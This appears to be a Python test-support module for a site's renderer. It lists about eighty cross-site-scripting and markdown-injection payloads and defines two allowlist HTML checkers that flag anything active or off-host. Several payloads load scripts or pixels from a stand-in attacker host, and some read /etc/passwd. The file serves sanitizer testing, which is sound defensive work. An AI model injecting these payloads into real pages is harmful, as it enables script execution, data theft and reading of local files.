"""What attackers write, and a judge that reads HTML as a browser would and names everything in it that acts.

Used by the tests of prose and of views. Invariant: the judge allows a list of elements and attributes, and forbids the rest.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

STRINGS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1.0?><script>alert(1)</script>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<p id=content class=bar>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/)",
    "[x](\\\\evil.example/)",
    "[x](/\\evil.example)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](place:../../evil)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x\" onerror=\"alert(1)](x.png)",
    "![x](x.png \"t\\\" onerror=alert(1)\")",
    "[x](https://ok.example \"t\" onclick=alert(1))",
    "[x](https://ok.example){onclick=alert(1) style=color:red}",
    "# x {: onclick=alert(1) }",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: y",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "\x02chart:control\x03x\x04",
    "&#2;chart:control&#3;<b>x</b>&#4;",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
    "<data value=\"0\"></data>",
    "![<img src=x onerror=alert(1)>](chart:control)",
    "![x](chart:control?a=\"><img src=x onerror=alert(1)>)",
    "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "--8<-- \"/etc/passwd\"",
    "</p></article></main><script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<img src=x onerror=alert(1)//",
    "<a href=\"https://ok.example/\x00javascript:alert(1)\">x</a>",
)  # fmt: skip

ELEMENTS = frozenset(
    "a abbr blockquote br code dd del div dl dt em h2 h3 h4 h5 h6 hr img ins kbd li ol p pre q s small strong sub sup table tbody td"
    " th thead tr ul".split()
)
ATTRIBUTES = {"a": {"href", "title", "id"}, "img": {"src", "alt"}, "li": {"id"}, "ol": {"start"}, "sup": {"id"}}
ATTRIBUTES |= {"td": {"data-label"}, "th": {"scope"}}
CLASSES = {"div": {"footnote"}, "table": {"stack"}, "td": {"number"}, "th": {"number"}}
HREF = re.compile(r"(?:https?://|mailto:|\.\./|#(?:[a-z0-9-]*-)?fn)")
ID = re.compile(r"(?:[a-z0-9-]*-)?fn(?:ref\d*)?-[\w.-]+\Z")


class Judge(HTMLParser):
    """Everything in some HTML that may not be in prose, in words."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ELEMENTS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            text = value or ""
            if name == "class":
                good = text in CLASSES.get(tag, ())
            elif name == "href":
                good = bool(HREF.match(text)) and "\\" not in text
            elif name == "src":
                good = text.startswith("../") and "//" not in text
            elif name == "id":
                good = bool(ID.match(text)) and name in ATTRIBUTES.get(tag, ())
            else:
                good = name in ATTRIBUTES.get(tag, ())
            if not good:
                self.faults.append(f"<{tag} {name}={text!r}>")

    def handle_comment(self, data: str) -> None:
        self.faults.append("<!--")

    def handle_decl(self, decl: str) -> None:
        self.faults.append("<!")

    def handle_pi(self, data: str) -> None:
        self.faults.append("<?")


def faults_in(html: str) -> list[str]:
    """What is wrong with some HTML of prose; [] for what is safe."""
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.faults


ACTING = frozenset(
    "script style iframe object embed link meta base form math animate set foreignobject use template frame".split()
)


class PageJudge(HTMLParser):
    """Everything in a hand-written page that acts, styles or asks another host."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTING:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            text = (value or "").strip()
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", text, re.IGNORECASE)
            asks = name == "src" and (scheme or text.startswith(("//", "\\", "/\\")))
            leads = name == "href" and (
                text.startswith(("//", "\\", "/\\"))
                or (scheme and scheme[1].lower() not in ("http", "https", "mailto"))
            )
            if (
                name.startswith(("on", "xlink"))
                or name in ("style", "srcdoc", "action", "formaction", "srcset", "data")
                or asks
                or leads
            ):
                self.faults.append(f"<{tag} {name}={text!r}>")


def acting_in(html: str) -> list[str]:
    """What acts in the HTML of a page; [] for what is safe."""
    judge = PageJudge()
    judge.feed(html)
    judge.close()
    return judge.faults
